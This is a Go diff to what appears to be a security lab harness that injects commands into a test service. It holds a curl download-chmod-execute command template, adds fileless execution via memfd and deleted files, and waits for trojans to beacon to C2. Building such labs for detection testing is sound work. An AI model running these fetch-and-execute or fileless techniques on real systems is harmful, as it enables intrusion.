@@ -49,6 +49,10 @@ func (r Round) Command() string {
 	return fmt.Sprintf("curl -s http://%s/%s -o %s; chmod +x %s; %s", r.Download, r.Remote, r.Path, r.Path, r.Path)
 }
 
+// Fileless are commands that run the round's image, once it is there, as a
+// memfd and as a file that was deleted before it was executed.
+func (r Round) Fileless() []string { return []string{r.Path + " memfd", r.Path + " deleted"} }
+
 // Options of a Lab.
 type Options struct {
 	// Name tells this laboratory's namespaces from others'.
@@ -135,18 +139,19 @@ func (l *Lab) Inject(ctx context.Context, command string) (answer string, err er
 
 // Request asks the service what it is for, as an ordinary client.
 func (l *Lab) Request(ctx context.Context) (string, error) {
-	return l.outside.attack(ctx, "http://"+ServiceAddress+":"+servicePort+"/lookup", "localhost")
+	return l.outside.attack(ctx, "http://"+ServiceAddress+":"+servicePort+"/lookup", "127.0.0.1")
 }
 
-// WaitBeacon waits until a trojan from path has spoken to its C2.
-func (l *Lab) WaitBeacon(ctx context.Context, path string) error {
+// WaitBeacon waits until n trojans, whose image had that path or one that begins
+// with it, have spoken to their C2.
+func (l *Lab) WaitBeacon(ctx context.Context, path string, n int) error {
 	for {
-		if l.labels.trojanAt(path) {
+		if l.labels.trojansAt(path) >= n {
 			return nil
 		}
 		select {
 		case <-ctx.Done():
-			return fmt.Errorf("no beacon from %s: %w", path, ctx.Err())
+			return fmt.Errorf("fewer than %d beaconing trojans from %s: %w", n, path, ctx.Err())
 		case <-time.After(50 * time.Millisecond):
 		}
 	}
